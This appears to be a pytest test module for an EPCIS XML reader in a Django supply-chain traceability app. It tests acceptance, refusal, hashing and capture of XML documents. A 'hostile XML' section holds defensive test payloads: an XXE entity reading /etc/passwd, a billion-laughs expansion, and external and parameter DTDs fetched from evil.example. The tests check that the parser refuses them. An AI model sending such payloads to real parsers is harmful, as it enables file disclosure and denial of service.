"""EPCIS 1.2 and 2.0 XML: every shared XML file accepted or refused for a named reason, the same
hash IDs as the reference package and as the JSON form, and hostile XML refused."""

from __future__ import annotations

import json
import logging
import re
import warnings
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from epcis_event_hash_generator import hash_generator, xml_to_py
from lxml import etree

from oretrace.traceability import services
from oretrace.traceability.epcis import schema
from oretrace.traceability.epcis import xml as epcis_xml
from oretrace.traceability.epcis import xsd as epcis_xsd
from oretrace.traceability.epcis.document import read_document
from oretrace.traceability.epcis.hashing import event_hashes
from oretrace.traceability.exceptions import CaptureRejected, TraceabilityError
from oretrace.traceability.models import EpcisEvent
from oretrace.traceability.tests import documents as docs

SHARED_EPCIS = Path(__file__).resolve().parents[4].parent / "shared" / "data" / "epcis"
OPENEPCIS = "openepcis_openepcis-test-resources/core/src/main/resources"
INVALID_DIR = f"{OPENEPCIS}/2.0/EPCIS/XML/Capture/Invalid"
ALL_XML = sorted(str(p.relative_to(SHARED_EPCIS)) for p in SHARED_EPCIS.glob("**/*.xml"))

# Shared files that are not capture documents: refused before any event is read.
NOT_CAPTURE = {
    "gs1_EPCIS/XML/CBV/CBV-11.4-2020-06-16a.xml": "EPCISMasterDataDocument",
    "gs1_EPCIS/XML/Mimasu/Example-masterData.xml": "EPCISMasterDataDocument",
    "gs1_EPCIS/XML/CaptureJob/Example-CaptureJobRunning.xml": "EPCISCaptureJob",
    "gs1_EPCIS/XML/CaptureJob/Example-CaptureJobSuccess.xml": "EPCISCaptureJob",
    "gs1_EPCIS/XML/CaptureJob/Example-CaptureJobWithErrorFile.xml": "EPCISCaptureJob",
    "gs1_EPCIS/XML/CaptureJob/Example-CaptureJobWithErrors.xml": "EPCISCaptureJob",
    "gs1_EPCIS/XML/WithFullCombinationOfFields/masterdata_all_possible_fields.xml": "master data",
    f"{OPENEPCIS}/1.2/EPCIS/XML/Capture/Documents/Single_event.xml": "<TransactionEvent>",
    f"{OPENEPCIS}/1.2/EPCIS/XML/Capture/Documents/Single_event_with_namespace.xml": (
        "<ObjectEvent>"
    ),
    f"{INVALID_DIR}/ObjectEvent_bare_event_without_action.xml": "<ObjectEvent>",
}
# EPCISDocuments refused for what they contain: (event, field, text in the message).
REFUSED = {
    # openEPCIS's XML documents that must be rejected
    f"{INVALID_DIR}/ObjectEvent_with_invalid_action.xml": (1, "action", "'CREATE'"),
    f"{INVALID_DIR}/ObjectEvent_with_near_miss_action.xml": (1, "action", "'OBSERV'"),
    f"{INVALID_DIR}/ObjectEvent_with_invalid_eventTime_format.xml": (1, "eventTime", "22-07-2026"),
    f"{INVALID_DIR}/ObjectEvent_with_unknown_element.xml": (
        1,
        "madeUpField",
        "<madeUpField> is not an element of an ObjectEvent (line 13)",
    ),
    f"{INVALID_DIR}/ObjectEvent_with_wrong_element_order.xml": (
        1,
        "eventTime",
        "<eventTime> is out of order: it must come before <action> (line 8)",
    ),
    f"{INVALID_DIR}/ObjectEvent_without_eventTime.xml": (1, "eventTime", "required"),
    # GS1 examples with a real mistake: a misspelt CBV URI (Bizstep-, not BizStep-) ...
    "gs1_EPCIS/XML/WithSensorData/SensorDataExamples.xml": (13, "bizStep", "Bizstep-sensor"),
    # ... GS1's XSL test inputs: sensorMetadata misspelt sensorMetaData, and
    # an unqualified element in 1.2's reserved extension slot, which has no JSON form
    "gs1_EPCIS/XSL/1.2/XML/AssociationEvent.xml": (
        6,
        "sensorElementList[0].sensorMetaData",
        "<sensorMetaData> is not allowed in a sensorElement",
    ),
    "gs1_EPCIS/XSL/1.2/XML/ObjectEvent.xml": (2, "myField", "not an element of an ObjectEvent"),
    # an openEPCIS 1.2 document with a certificationInfo that is no URI: EPCIS 2.0 has no form
    # for it (1.2 documents are otherwise read as leniently as openEPCIS reads them)
    f"{OPENEPCIS}/1.2/EPCIS/XML/Capture/Documents/ObjectEvent_all_possible_fields.xml": (
        1,
        "certificationInfo",
        "URI",
    ),
}
# Accepted XML whose JSON form GS1's JSON Schema refuses, as it refuses the same JSON: the XSD
# allows a persistentDisposition on AggregationEvent and AssociationEvent, the JSON Schema does
# not; and the schema's sensor types predate gs1:EffectiveDoseRate.
SCHEMA_DISAGREES = {
    "gs1_EPCIS/XML/Example-PersistentDisposition.xml",
    "gs1_EPCIS/XML/WithExtension/TransactionEvent.xml",
    f"{OPENEPCIS}/1.2/EPCIS/XML/Capture/Documents/AggregationEvent_all_possible_fields.xml",
    f"{OPENEPCIS}/1.2/EPCIS/XML/Capture/Documents/All_eventTypes_in_single_document.xml",
    f"{OPENEPCIS}/1.2/EPCIS/XML/Capture/Documents/AssociationEvent_all_possible_fields.xml",
}
ACCEPTED = [n for n in ALL_XML if n not in NOT_CAPTURE and n not in REFUSED]
EVENT_NAMES = ("ObjectEvent", "AggregationEvent", "TransactionEvent", "TransformationEvent")


def _bytes(epcis_data: Path, name: str) -> bytes:
    return (epcis_data / name).read_bytes()


def _event_count(raw: bytes) -> int:
    root = etree.fromstring(raw, epcis_xml._parser())
    names = (*EVENT_NAMES, "AssociationEvent")
    return sum(
        1 for e in root.iter() if isinstance(e.tag, str) and etree.QName(e).localname in names
    )


def test_the_shared_xml_files_are_found(epcis_data):
    assert len(ALL_XML) == 68
    assert len(ACCEPTED) >= 45
    assert sorted(n for n in ALL_XML if n.startswith(INVALID_DIR)) == sorted(
        [n for n in NOT_CAPTURE if n.startswith(INVALID_DIR)]
        + [n for n in REFUSED if n.startswith(INVALID_DIR)]
    )


@pytest.mark.parametrize("name", ACCEPTED, ids=str)
def test_valid_xml_documents_are_accepted_with_and_without_the_schema(
    name, epcis_data, schema_path
):
    raw = _bytes(epcis_data, name)
    document, result = epcis_xml.read_xml(raw)
    assert result.problems == [], [str(p) for p in result.problems]
    assert len(result.events) == _event_count(raw) > 0
    _, checked = epcis_xml.read_xml(raw, schema=schema.compiled(schema_path))
    if name in SCHEMA_DISAGREES:
        assert [p.message for p in checked.problems if "JSON Schema" in p.message]
    else:
        assert checked.problems == [], [str(p) for p in checked.problems]
        assert [e.hash_id for e in checked.events] == [e.hash_id for e in result.events]
    json.dumps(document)  # the stored body is plain JSON


@pytest.mark.parametrize("name", sorted(NOT_CAPTURE), ids=str)
def test_files_that_are_no_capture_documents_are_refused(name, epcis_data):
    with pytest.raises(
        epcis_xml.XmlRefused, match=r"not a(n EPCISDocument| capture document)"
    ) as e:
        epcis_xml.read_xml(_bytes(epcis_data, name))
    assert NOT_CAPTURE[name] in str(e.value)


@pytest.mark.parametrize("name", sorted(REFUSED), ids=str)
def test_invalid_documents_are_refused_naming_event_and_element(name, epcis_data):
    event, field, text = REFUSED[name]
    _, result = epcis_xml.read_xml(_bytes(epcis_data, name))
    assert result.events == []
    assert any(
        p.event == event and p.field == field and text in p.message for p in result.problems
    ), [str(p) for p in result.problems]


@pytest.fixture
def xsd(epcis_data):
    path = epcis_data / "gs1_EPCIS" / "XSD" / "EPCglobal-epcis-2_0.xsd"
    if not path.is_file():
        pytest.skip("the EPCIS XSD is not in ../shared/data")
    return epcis_xsd.compiled(path)


# Accepted by our reading, refused by the XSD: event elements qualified with the EPCIS namespace.
XSD_REFUSES = {f"{OPENEPCIS}/1.2/EPCIS/XML/Capture/Documents/Document_with_namespace.xml"}


@pytest.mark.parametrize("name", ACCEPTED, ids=str)
def test_valid_xml_documents_follow_the_xsd(name, epcis_data, xsd):
    _, result = epcis_xml.read_xml(_bytes(epcis_data, name), xsd=xsd)
    if name in XSD_REFUSES:
        assert [p for p in result.problems if "EPCIS XSD" in p.message]
    else:
        assert result.problems == [], [str(p) for p in result.problems]


@pytest.mark.parametrize("name", sorted(n for n in REFUSED if n.startswith(INVALID_DIR)), ids=str)
def test_the_xsd_also_refuses_the_invalid_documents(name, epcis_data, xsd):
    event, _, _ = REFUSED[name]
    _, result = epcis_xml.read_xml(_bytes(epcis_data, name), xsd=xsd)
    assert any(
        (p.event, p.event_type) == (event, "ObjectEvent")
        and p.message.startswith("does not follow the EPCIS XSD: Element '")
        and "(line " in p.message
        for p in result.problems
    ), [str(p) for p in result.problems]


@pytest.mark.django_db
def test_capture_uses_the_configured_xsd(settings, epcis_data, xsd, member_a, tmp_path):
    settings.ORETRACE_EPCIS_XSD = epcis_data / "gs1_EPCIS" / "XSD" / "EPCglobal-epcis-2_0.xsd"
    raw = docs.xml_document("2.0", ("<action>ADD</action>", "<action>CREATE</action>"))
    with pytest.raises(CaptureRejected) as refused:
        services.capture_document(raw, organisation=member_a.organisation, actor=member_a)
    assert any("EPCIS XSD" in p.message and p.field == "action" for p in refused.value.problems)
    assert services.capture_document(
        docs.xml_document("2.0"), organisation=member_a.organisation, actor=member_a
    ).event_ids
    settings.ORETRACE_EPCIS_XSD = tmp_path / "missing.xsd"
    with pytest.raises(TraceabilityError, match=r"EPCIS XSD .*missing\.xsd cannot be read"):
        services.capture_document(raw, organisation=member_a.organisation, actor=member_a)


# -- hash IDs -------------------------------------------------------------------------------------

# What the reference reads from XML that the JSON form has no place for: xsi:type annotations of
# extension values, a nil quantity (left out in JSON), and sensor booleans, which its JSON path
# writes as Python's True/False. The comparison gives the reference the XML without them.
_XSI_TYPE = re.compile(r'\s+xsi:type="[^"]*"')
_NIL_QUANTITY = re.compile(r'<quantity\s+xsi:nil="true"[^>]*/>')


def _as_json_sees_it(text: str) -> str:
    text = _NIL_QUANTITY.sub("", _XSI_TYPE.sub("", text))
    return text.replace('booleanValue="true"', 'booleanValue="True"').replace(
        'booleanValue="false"', 'booleanValue="False"'
    )


def _reference_xml_hashes(text: str) -> list[str] | None:
    """The package's own hashes of an XML document, or None where the package itself fails."""
    logging.disable(logging.ERROR)
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)  # its ElementTree truth test
            events = xml_to_py.event_list_from_epcis_document_str(text)
            hashes: list[str] = hash_generator.epcis_hashes_from_events(events)
            return hashes
    except Exception:  # 1.9.3 fails on a bizTransaction without a type (IndexError)
        return None
    finally:
        logging.disable(logging.NOTSET)


GS1_ACCEPTED = [n for n in ACCEPTED if n.startswith("gs1_EPCIS/XML/")]
# The package's JSON path expands any value that starts with a declared prefix ("example:x")
# into a URI; from XML it keeps the text. Our XML is hashed through the JSON form.
CURIE_VALUES = {"gs1_EPCIS/XML/WithExtension/TransformationEvent.xml"}


@pytest.mark.parametrize("name", GS1_ACCEPTED, ids=str)
def test_hash_ids_equal_the_reference_on_gs1_xml(name, epcis_data):
    text = (epcis_data / name).read_text(encoding="utf-8")
    expected = _reference_xml_hashes(_as_json_sees_it(text))
    if expected is None:
        pytest.skip("the reference implementation cannot hash this document")
    _, result = epcis_xml.read_xml(text.encode())
    ours = [e.hash_id for e in result.events]
    if name in CURIE_VALUES:
        assert ours != expected  # keeps the exception list honest
    else:
        assert ours == expected


def test_the_reference_comparison_covers_most_gs1_xml(epcis_data):
    compared = [
        n
        for n in GS1_ACCEPTED
        if _reference_xml_hashes(_as_json_sees_it((epcis_data / n).read_text())) is not None
    ]
    assert len(compared) >= len(GS1_ACCEPTED) - 1  # Example-TransactionEvent: untyped bizTx
    unchanged = [
        n
        for n in compared
        if n not in CURIE_VALUES
        and _reference_xml_hashes((epcis_data / n).read_text())
        == [e.hash_id for e in epcis_xml.read_xml((epcis_data / n).read_bytes())[1].events]
    ]
    assert len(unchanged) >= 15  # about half match with nothing removed


def test_gs1_xml_and_json_twins_have_the_same_hash_ids(epcis_data):
    _, result = epcis_xml.read_xml(
        _bytes(epcis_data, "gs1_EPCIS/XML/AssociationEvent/AssociationEventExamples.xml")
    )
    twins = sorted((epcis_data / "gs1_EPCIS/JSON/AssociationEvent").glob("*.jsonld"))
    expected = []
    for twin in twins:
        document = json.loads(twin.read_text(encoding="utf-8"))
        expected += event_hashes(document["epcisBody"]["eventList"], document["@context"])
    assert len(twins) == 8
    assert [e.hash_id for e in result.events] == expected


def test_our_xml_12_and_20_read_as_our_json():
    json_ids = [e.hash_id for e in read_document(docs.document()).events]
    twenty, result_20 = epcis_xml.read_xml(docs.xml_document("2.0"))
    twelve, result_12 = epcis_xml.read_xml(docs.xml_document("1.2"))
    assert [e.hash_id for e in result_20.events] == json_ids
    assert [e.hash_id for e in result_12.events] == json_ids
    shipping = twenty["epcisBody"]["eventList"][1]
    assert shipping == twelve["epcisBody"]["eventList"][1]
    assert shipping["bizStep"] == "shipping"  # the CBV URN as the bare JSON term
    assert shipping["bizTransactionList"] == [
        {"type": "desadv", "bizTransaction": "urn:epcglobal:cbv:bt:x:1"}
    ]
    assert shipping["quantityList"] == [{"epcClass": docs.RAW, "quantity": 100, "uom": "KGM"}]
    assert twenty["epcisBody"]["eventList"][0]["ilmd"] == {"ot:village": "Koderma"}
    assert {"ot": "https://oretrace.example/voc/"} in twenty["@context"]


# -- mapping details ------------------------------------------------------------------------------

EXTENDED = b"""<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" xmlns:ex="https://ex.example/"
    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" schemaVersion="2.0"
    creationDate="2026-03-06T00:00:00Z">
  <EPCISBody><EventList>
    <ObjectEvent>
      <eventTime>2026-03-01T08:00:00Z</eventTime>
      <eventTimeZoneOffset>+00:00</eventTimeZoneOffset>
      <eventID>urn:uuid:0b0c7a1e-3f4e-4b8e-9d57-1b9f4c2d8e01</eventID>
      <errorDeclaration>
        <declarationTime>2026-03-02T08:00:00Z</declarationTime>
        <reason>urn:epcglobal:cbv:er:incorrect_data</reason>
        <correctiveEventIDs><correctiveEventID>urn:uuid:1</correctiveEventID></correctiveEventIDs>
        <ex:note>typo</ex:note>
      </errorDeclaration>
      <certificationInfo>https://cert.example/1</certificationInfo>
      <epcList><epc>urn:epc:id:sgtin:8901234.000001.1</epc></epcList>
      <action>OBSERVE</action>
      <readPoint><id>urn:epc:id:sgln:8901234.00001.0</id><ex:gate>4</ex:gate></readPoint>
      <sensorElementList><sensorElement>
        <sensorMetadata time="2026-03-01T08:00:00Z" ex:batch="b1"/>
        <sensorReport type="gs1:Temperature" value="21.5" uom="CEL" booleanValue="false"/>
      </sensorElement></sensorElementList>
      <persistentDisposition>
        <unset>urn:epcglobal:cbv:disp:completeness_inferred</unset>
        <set>urn:epcglobal:cbv:disp:completeness_verified</set>
      </persistentDisposition>
      <ex:tag>a</ex:tag>
      <ex:tag>b</ex:tag>
      <ex:box xsi:type="xsd:string" ex:unit="KGM"><ex:weight unit="KGM">3.5</ex:weight></ex:box>
      <other xmlns="https://other.example/">x</other>
    </ObjectEvent>
  </EventList></EPCISBody>
</epcis:EPCISDocument>"""


def test_extension_fields_map_to_prefixed_json_keys():
    document, result = epcis_xml.read_xml(EXTENDED)
    assert result.ok, [str(p) for p in result.problems]
    event = document["epcisBody"]["eventList"][0]
    assert event["eventID"] == "urn:uuid:0b0c7a1e-3f4e-4b8e-9d57-1b9f4c2d8e01"
    assert event["errorDeclaration"] == {
        "declarationTime": "2026-03-02T08:00:00Z",
        "reason": "incorrect_data",
        "correctiveEventIDs": ["urn:uuid:1"],
        "ex:note": "typo",
    }
    assert event["certificationInfo"] == "https://cert.example/1"
    assert event["readPoint"] == {"id": "urn:epc:id:sgln:8901234.00001.0", "ex:gate": "4"}
    assert event["sensorElementList"] == [
        {
            "sensorMetadata": {"time": "2026-03-01T08:00:00Z", "ex:batch": "b1"},
            "sensorReport": [
                {"type": "Temperature", "value": 21.5, "uom": "CEL", "booleanValue": False}
            ],
        }
    ]
    assert event["persistentDisposition"] == {
        "unset": ["completeness_inferred"],
        "set": ["completeness_verified"],
    }
    assert event["ex:tag"] == ["a", "b"]
    assert event["ex:box"] == {"ex:unit": "KGM", "ex:weight": {"unit": "KGM", "#text": "3.5"}}
    assert event["ns:other"] == "x"
    assert document["@context"][1:] == [
        {"ex": "https://ex.example/"},
        {"ns": "https://other.example/"},
    ]


def test_a_prefix_bound_to_two_namespaces_gets_two_json_prefixes():
    document, _ = epcis_xml.read_xml(
        docs.xml_document(
            "2.0",
            ("</ilmd>", '</ilmd><ot:note xmlns:ot="https://b.example/">n</ot:note>'),
        )
    )
    event = document["epcisBody"]["eventList"][0]
    assert event["ilmd"] == {"ot:village": "Koderma"}
    assert event["ot2:note"] == "n"
    assert {"ot2": "https://b.example/"} in document["@context"]


@pytest.mark.parametrize(
    ("change", "event", "field", "text"),
    [
        (
            ("<action>ADD</action>", "<action>ADD</action><action>ADD</action>"),
            1,
            "action",
            "more than once",
        ),
        (
            (
                "<action>ADD</action>",
                '<action>ADD</action><epcis:madeUp xmlns:epcis="urn:epcglobal:epcis:xsd:2"/>',
            ),
            1,
            "madeUp",
            "not an element of an ObjectEvent",
        ),
        (
            ("<ilmd>", "<ot:early>1</ot:early><ilmd>"),
            1,
            "ilmd",
            "comes after extension element <ot:early>",
        ),
        (
            ("<quantity>120.0</quantity>", "<quantity>lots</quantity>"),
            1,
            "quantityList[0].quantity",
            "'lots'",
        ),
        (
            ("<ot:village>Koderma</ot:village>", "<village>Koderma</village>"),
            1,
            "ilmd.village",
            "must be namespaced",
        ),
        (
            ("<eventTime>2026-03-01T08:00:00+05:30", "<eventTime>2026-03-01T08:00+05:30"),
            1,
            "eventTime",
            "with seconds",
        ),
        (
            (
                "<ObjectEvent>\n        <eventTime>2026-03-01",
                "<QuantityEvent><eventTime>2026-03-01",
            ),
            1,
            "type",
            "QuantityEvent was withdrawn",
        ),
        (
            ('<bizTransaction type="', '<bizTransaction kind="x" type="'),
            2,
            "bizTransactionList[0].kind",
            "not an attribute of <bizTransaction>",
        ),
        (
            (
                "<readPoint><id>urn:epc:id:sgln:8901234.00002.0</id>",
                "<readPoint><gate>4</gate><id>x</id>",
            ),
            2,
            "readPoint.gate",
            "not part of a readPoint",
        ),
    ],
)
def test_structure_problems_name_event_element_and_line(change, event, field, text):
    raw = docs.xml_document("2.0", change)
    if b"<QuantityEvent>" in raw:
        raw = raw.replace(b"</ObjectEvent>", b"</QuantityEvent>", 1)
    _, result = epcis_xml.read_xml(raw)
    assert not result.events
    assert any(
        p.event == event and p.field == field and text in p.message for p in result.problems
    ), [str(p) for p in result.problems]
    assert all("(line " in p.message for p in result.problems if p.field == field)


def test_epcis_12_is_read_in_any_order_and_without_seconds_as_openepcis_reads_it():
    ordered = epcis_xml.read_xml(docs.xml_document("1.2"))[1]
    shuffled = epcis_xml.read_xml(
        docs.xml_document(
            "1.2",
            (
                "<eventTime>2026-03-01T08:00:00+05:30</eventTime>\n"
                "        <eventTimeZoneOffset>+05:30</eventTimeZoneOffset>\n",
                "<eventTimeZoneOffset>+05:30</eventTimeZoneOffset>\n",
            ),
            (
                "<bizLocation><id>urn:epc:id:sgln:8901234.00001.0</id></bizLocation>",
                "<bizLocation><id>urn:epc:id:sgln:8901234.00001.0</id></bizLocation>"
                "<eventTime>2026-03-01T08:00+05:30</eventTime>",
            ),
        )
    )[1]
    assert shuffled.ok, [str(p) for p in shuffled.problems]
    assert [e.hash_id for e in shuffled.events] == [e.hash_id for e in ordered.events]
    # EPCIS 2.0 keeps the XSD's order and its seconds
    moved = docs.xml_document(
        "2.0", ("<eventTime>2026-03-01T08:00:00+05:30", "<eventTime>2026-03-01T08:00+05:30")
    )
    assert not epcis_xml.read_xml(moved)[1].ok


def test_malformed_xml_names_the_line():
    raw = docs.xml_document("2.0", ("</ot:village>", "</village>"))
    with pytest.raises(epcis_xml.XmlRefused, match=r"not well-formed XML: .*village.* \(line 18\)"):
        epcis_xml.read_xml(raw)


def test_version_mismatch_and_empty_documents():
    _, result = epcis_xml.read_xml(
        docs.xml_document("2.0", ('schemaVersion="2.0"', 'schemaVersion="1.2"'))
    )
    assert [p.field for p in result.problems] == ["schemaVersion"]
    empty = (
        b'<e:EPCISDocument xmlns:e="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0" '
        b'creationDate="2026-01-01T00:00:00Z"><EPCISBody><EventList/></EPCISBody></e:EPCISDocument>'
    )
    _, result = epcis_xml.read_xml(empty)
    assert [p.field for p in result.problems] == ["epcisBody.eventList"]


# -- hostile XML ----------------------------------------------------------------------------------

HOSTILE = {
    "xxe": b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0"
 creationDate="2026-01-01T00:00:00Z"><EPCISBody><EventList><ObjectEvent>
 <eventTime>&xxe;</eventTime></ObjectEvent></EventList></EPCISBody></epcis:EPCISDocument>""",
    "billion laughs": b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2">&lol4;</epcis:EPCISDocument>""",
    "external dtd": b"""<?xml version="1.0"?>
<!DOCTYPE d SYSTEM "http://evil.example/epcis.dtd">
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"/>""",
    "attribute list": b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ATTLIST ObjectEvent x CDATA "injected">]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"/>""",
    "parameter entity": b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"/>""",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_is_refused(name):
    with pytest.raises(epcis_xml.XmlRefused, match=r"declares a DTD \(line 2\)") as e:
        epcis_xml.read_xml(HOSTILE[name])
    assert "root:" not in str(e.value)  # nothing of /etc/passwd


def test_an_undeclared_entity_is_not_well_formed():
    raw = docs.xml_document("2.0", ("<action>ADD</action>", "<action>&add;</action>"))
    with pytest.raises(epcis_xml.XmlRefused, match=r"not well-formed XML: .*add.* \(line 9\)"):
        epcis_xml.read_xml(raw)


def test_a_bare_doctype_is_accepted():
    raw = docs.xml_document(
        "2.0", ("<epcis:EPCISDocument", "<!DOCTYPE EPCISDocument>\n<epcis:EPCISDocument")
    )
    assert epcis_xml.read_xml(raw)[1].ok


def test_xml_is_recognised_by_its_first_byte():
    assert epcis_xml.looks_like_xml(b"\xef\xbb\xbf  \n<?xml")
    assert not epcis_xml.looks_like_xml(b' {"type": "EPCISDocument"}')


# -- capture: service, API, page ------------------------------------------------------------------


@pytest.mark.django_db
def test_xml_capture_stores_the_same_events_as_json(member_a, member_b):
    # given: the JSON document captured by one organisation, its 1.2 XML form by another
    from_json = services.capture_document(
        docs.as_bytes(docs.document()), organisation=member_a.organisation, actor=member_a
    )
    # when
    from_xml = services.capture_document(
        docs.xml_document("1.2"), organisation=member_b.organisation, actor=member_b
    )
    # then: the same hash IDs, events stored with the JSON body and the ILMD namespace
    assert from_xml.event_ids == from_json.event_ids
    stored = EpcisEvent.objects.filter(organisation=member_b.organisation).order_by("event_time")
    assert [e.biz_step for e in stored] == ["commissioning", "shipping", "commissioning"]
    assert stored[0].body["ilmd"] == {"ns:village": "Koderma"}
    assert {"ns": "https://oretrace.example/voc/"} in from_xml.capture.context


@pytest.mark.django_db
def test_xml_flag_overrides_the_first_byte(member_a):
    with pytest.raises(CaptureRejected, match="not well-formed XML"):
        services.capture_document(
            docs.as_bytes(docs.document()),
            organisation=member_a.organisation,
            actor=member_a,
            xml=True,
        )


def _post_xml(client, raw: bytes, content_type="application/xml"):
    return client.post("/api/v1/epcis/capture", data=raw, content_type=content_type)


@pytest.mark.django_db
def test_api_captures_xml_then_is_idempotent(api_a):
    first = _post_xml(api_a, docs.xml_document("2.0"))
    assert first.status_code == 201, first.content
    body = first.json()
    assert (body["event_count"], body["new_count"], body["known_count"]) == (3, 3, 0)
    again = _post_xml(api_a, docs.xml_document("1.2"), content_type="text/xml").json()
    assert (again["new_count"], again["known_count"]) == (0, 3)
    assert again["event_ids"] == body["event_ids"]


@pytest.mark.django_db
def test_api_lists_the_problems_of_invalid_xml(api_a):
    raw = docs.xml_document(
        "2.0",
        ("<action>ADD</action>", "<action>CREATE</action>"),
        ("<action>OBSERVE</action>", "<action>OBSERVE</action><madeUp/>"),
    )
    response = _post_xml(api_a, raw)
    errors = docs.refused_capture(
        api_a, response, [(1, "ObjectEvent", "action"), (2, "ObjectEvent", "madeUp")]
    )
    assert "(line " in errors[1]["message"]


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["xxe", "billion laughs"])
def test_api_refuses_hostile_xml(api_a, name):
    response = _post_xml(api_a, HOSTILE[name])
    assert response.status_code == 400
    assert "declares a DTD (line 2)" in response.json()["detail"]


def test_openapi_names_the_xml_content_types():
    from oretrace.api.api import api

    schema_doc = api.get_openapi_schema()
    content = schema_doc["paths"]["/api/v1/epcis/capture"]["post"]["requestBody"]["content"]
    assert {"application/xml", "text/xml", "application/json"} <= set(content)


@pytest.mark.django_db
def test_capture_form_takes_an_xml_file(web_a, member_a):
    page = web_a.get(reverse("traceability:capture")).content.decode()
    assert ".xml" in page
    upload = SimpleUploadedFile("doc.xml", docs.xml_document("1.2"), content_type="text/xml")
    response = web_a.post(reverse("traceability:capture"), {"document": upload})
    assert response.status_code == 302
    assert EpcisEvent.objects.filter(organisation=member_a.organisation).count() == 3


@pytest.mark.django_db
def test_capture_form_lists_the_problems_of_xml(web_a):
    raw = docs.xml_document("2.0", ("<action>ADD</action>", "<action>CREATE</action>"))
    response = web_a.post(
        reverse("traceability:capture"), {"document": SimpleUploadedFile("doc.xml", raw)}
    )
    assert response.status_code == 200
    assert "&#x27;CREATE&#x27;" in response.content.decode()
    assert not EpcisEvent.objects.exists()


def _sensor_value(value: str) -> tuple[str, str]:
    element = f'<sensorElement><sensorReport type="gs1:Mass" value="{value}"/></sensorElement>'
    return ("<ilmd>", f"<sensorElementList>{element}</sensorElementList><ilmd>")


@pytest.mark.parametrize(
    ("change", "field"),
    [
        (("<quantity>120.0</quantity>", "<quantity>1e3</quantity>"), "quantityList[0].quantity"),
        (
            ("<quantity>120.0</quantity>", f"<quantity>{'9' * 5000}</quantity>"),
            "quantityList[0].quantity",
        ),
        (_sensor_value("INF"), "sensorElementList[0].sensorReport[0].value"),
        (_sensor_value("NaN"), "sensorElementList[0].sensorReport[0].value"),
    ],
)
def test_numbers_without_a_json_form_are_refused(change, field):
    _, result = epcis_xml.read_xml(docs.xml_document("2.0", change))
    assert [(p.event, p.field) for p in result.problems] == [(1, field)]


def test_a_sensor_double_in_exponent_form_is_a_number():
    document, result = epcis_xml.read_xml(docs.xml_document("2.0", _sensor_value("1.5E2")))
    assert result.ok, [str(p) for p in result.problems]
    report = document["epcisBody"]["eventList"][0]["sensorElementList"][0]["sensorReport"][0]
    assert report == {"type": "Mass", "value": 150.0}


def test_deeply_nested_extensions_are_refused():
    nested = "<ot:a>" * 70 + "x" + "</ot:a>" * 70
    raw = docs.xml_document("2.0", ("<ot:village>Koderma</ot:village>", nested))
    _, result = epcis_xml.read_xml(raw)
    assert [(p.event, p.field) for p in result.problems] == [(1, "ot:a")]
    assert "nested deeper than 64" in result.problems[0].message
